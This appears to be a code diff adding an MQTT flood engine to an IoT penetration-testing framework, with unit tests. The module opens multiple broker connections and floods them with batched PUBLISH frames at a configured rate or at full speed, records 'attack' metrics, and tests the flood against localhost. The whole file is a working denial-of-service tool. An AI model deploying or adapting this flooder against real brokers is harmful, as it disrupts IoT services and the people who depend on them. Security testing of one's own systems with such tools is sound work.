@@ -0,0 +1,243 @@
+import errno
+import logging
+import select
+import socket
+import time
+import unittest
+
+from Entity import metrics as Metrics
+from Utils.RandomUtil import random_generated_names
+from Utils.RateUtil.rate_limiter import ConstantProfile, RateLimiter
+from protocols.MQTT.mqtt_packet_encoder import encode_connect_packet, encode_publish_packet
+
+logging.basicConfig(level=logging.DEBUG, format="%(asctime)s:%(levelname)s:%(name)s:%(message)s")
+logger = logging.getLogger("MQTT Flood Engine")
+
+DEFAULT_MQTT_PORT = 1883
+DEFAULT_CONNECTION_COUNT = 8
+DEFAULT_BATCH_SIZE = 64
+REPORT_INTERVAL = 1.0
+
+CONNACK_LENGTH = 4
+
+
+def open_connection(host, port=DEFAULT_MQTT_PORT, username=None, password=None, timeout=None):
+    """
+    Open a TCP connection to the broker and complete MQTT handshake on it
+    :param timeout: Timeout of the socket operations in seconds, None means that they block
+    :return: Connected socket
+    """
+    sock = socket.create_connection((host, port), timeout)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    sock.sendall(bytes(encode_connect_packet(random_generated_names.get_random_client_name(), username, password)))
+    connack = bytearray()
+    while len(connack) < CONNACK_LENGTH:
+        received = sock.recv(CONNACK_LENGTH - len(connack))
+        if not received:
+            sock.close()
+            raise socket.error("Broker closed the connection during handshake")
+        connack.extend(received)
+    if connack[3] != 0:
+        sock.close()
+        raise socket.error("Broker refused the connection with return code {0}".format(connack[3]))
+    return sock
+
+
+class MQTTFloodConnection:
+    """
+    Single broker connection of the flood engine which keeps track of partially written batches
+    """
+
+    def __init__(self, sock):
+        self.sock = sock
+        self.pending = None  # Remaining part of the batch being written
+        self.pending_message_count = 0
+
+    def fileno(self):
+        return self.sock.fileno()
+
+
+class MQTTFloodEngine:
+    """
+    Multi connection MQTT flood engine
+    It opens several broker connections and writes pre-encoded PUBLISH frames directly to non-blocking sockets
+    which are multiplexed with select. Aggregate message rate is drawn from a rate limiter and the achieved rate
+    is reported.
+    """
+
+    def __init__(self, host, topic, message, port=DEFAULT_MQTT_PORT, connection_count=DEFAULT_CONNECTION_COUNT,
+                 target_rate=0, username=None, password=None, retain=False, batch_size=DEFAULT_BATCH_SIZE,
+                 metrics=None, rate_limiter=None):
+        """
+        :param target_rate: Aggregate messages per second, zero or negative means as fast as possible
+        :param batch_size: Maximum number of frames written to a socket with a single send call
+        :param metrics: Metrics of the attack which uses the engine, a private registry is used if it is not given
+        :type metrics: Metrics.AttackMetrics
+        :param rate_limiter: Limiter which overrides target rate, e.g. to follow a ramp profile
+        :type rate_limiter: RateLimiter
+        """
+        self.host = host
+        self.port = port
+        self.connection_count = max(1, connection_count)
+        self.target_rate = target_rate
+        self.username = username
+        self.password = password
+        self.batch_size = max(1, batch_size)
+        self.rate_limiter = rate_limiter if rate_limiter is not None else RateLimiter(ConstantProfile(target_rate))
+
+        self.frame = bytes(encode_publish_packet(topic, message, retain))
+        # Since every frame has the same length, batches of any size are slices of this buffer
+        self.batch = memoryview(self.frame * self.batch_size)
+
+        self.connections = []
+        self.sent_message_count = 0
+        self.sent_byte_count = 0
+        self.start_time = None
+        self.end_time = None
+        self.stopped_flag = False
+
+        self.metrics = metrics if metrics is not None else Metrics.AttackMetrics("MQTT Flood Engine")
+        self.sent_metric = self.metrics.counter(Metrics.MESSAGES_SENT, "Published MQTT messages")
+        self.sent_byte_metric = self.metrics.counter(Metrics.BYTES_SENT, "Sent bytes")
+        self.connection_metric = self.metrics.gauge("open_connections", "Open broker connections")
+
+    def connect(self):
+        """
+        Open all connections and complete MQTT handshake on each of them
+        """
+        for _ in range(self.connection_count):
+            sock = open_connection(self.host, self.port, self.username, self.password)
+            sock.setblocking(0)
+            self.connections.append(MQTTFloodConnection(sock))
+        self.connection_metric.set(len(self.connections))
+        logger.info("{0} connections are established to {1}:{2}".format(len(self.connections), self.host, self.port))
+
+    def close(self):
+        for connection in self.connections:
+            try:
+                connection.sock.close()
+            except socket.error:
+                pass
+        self.connections = []
+        self.connection_metric.set(0)
+
+    def stop(self):
+        self.stopped_flag = True
+
+    def get_elapsed_time(self):
+        if self.start_time is None:
+            return 0.
+        return (self.end_time or time.time()) - self.start_time
+
+    def get_achieved_rate(self):
+        """
+        :return: Messages per second which are completely written to the sockets
+        """
+        elapsed = self.get_elapsed_time()
+        return self.sent_message_count / elapsed if elapsed > 0 else 0.
+
+    def _drain(self, connection):
+        """
+        Discard whatever broker sends, so its side of the connection does not block on a full window
+        """
+        try:
+            if not connection.sock.recv(4096):
+                raise socket.error("Broker closed the connection")
+        except socket.error as e:
+            if e.args and e.args[0] in (errno.EAGAIN, errno.EWOULDBLOCK):
+                return
+            raise
+
+    def _write(self, connection):
+        """
+        Write pending batch to the connection, counts messages once the whole batch is on the wire
+        """
+        try:
+            written = connection.sock.send(connection.pending)
+        except socket.error as e:
+            if e.args and e.args[0] in (errno.EAGAIN, errno.EWOULDBLOCK):
+                return
+            raise
+        self.sent_byte_count += written
+        self.sent_byte_metric.inc(written)
+        connection.pending = connection.pending[written:]
+        if len(connection.pending) == 0:
+            self.sent_message_count += connection.pending_message_count
+            self.sent_metric.inc(connection.pending_message_count)
+            connection.pending = None
+            connection.pending_message_count = 0
+
+    def run(self, duration=None):
+        """
+        Flood the broker until stop is called or given duration passes
+        :param duration: Optional duration of the flood in seconds
+        :return: Achieved message rate
+        """
+        if len(self.connections) == 0:
+            self.connect()
+
+        frame_length = len(self.frame)
+        self.start_time = time.time()
+        self.end_time = None
+        self.rate_limiter.start()
+        next_report_time = self.start_time + REPORT_INTERVAL
+        try:
+            while self.stopped_flag is False:
+                now = time.time()
+                if duration is not None and now - self.start_time >= duration:
+                    break
+                if self.rate_limiter.is_finished():
+                    break
+                if now >= next_report_time:
+                    logger.info("Sent message count = {0}, achieved rate = {1:.1f} msgs/s.".format(
+                        self.sent_message_count, self.get_achieved_rate()))
+                    next_report_time = now + REPORT_INTERVAL
+
+                # Hand out new batches to idle connections while there is credit
+                for connection in self.connections:
+                    if connection.pending is not None:
+                        continue
+                    credit = self.rate_limiter.try_acquire(self.batch_size)
+                    if credit <= 0:
+                        break
+                    connection.pending = self.batch[:credit * frame_length]
+                    connection.pending_message_count = credit
+
+                writers = [connection for connection in self.connections if connection.pending is not None]
+                if len(writers) == 0:
+                    # Wait for the next message to be allowed by the rate limiter
+                    wait_time = self.rate_limiter.get_wait_time()
+                    readable, _, _ = select.select(self.connections, [], [], min(wait_time, 0.1))
+                else:
+                    readable, writable, _ = select.select(self.connections, writers, [], 0.1)
+                    for connection in writable:
+                        self._write(connection)
+                for connection in readable:
+                    self._drain(connection)
+        finally:
+            self.end_time = time.time()
+        logger.info("Flood is finished. Sent message count = {0}, achieved rate = {1:.1f} msgs/s.".format(
+            self.sent_message_count, self.get_achieved_rate()))
+        return self.get_achieved_rate()
+
+
+class TestMQTTFloodEngine(unittest.TestCase):
+    def test_batch_slices(self):
+        engine = MQTTFloodEngine("127.0.0.1", "peniot/test", "peniot", batch_size=4)
+        self.assertEqual(len(engine.frame) * 4, len(engine.batch))
+        self.assertEqual(0., engine.get_achieved_rate())
+
+    def test_flood(self):
+        print "* If server is not initialized this test will not execute properly."
+        engine = MQTTFloodEngine("127.0.0.1", "peniot/test", "peniot", connection_count=2, target_rate=1000)
+        try:
+            engine.run(duration=2)
+        except socket.error:
+            return
+        finally:
+            engine.close()
+        self.assertGreater(engine.sent_message_count, 0)
+
+
+if __name__ == '__main__':
+    unittest.main()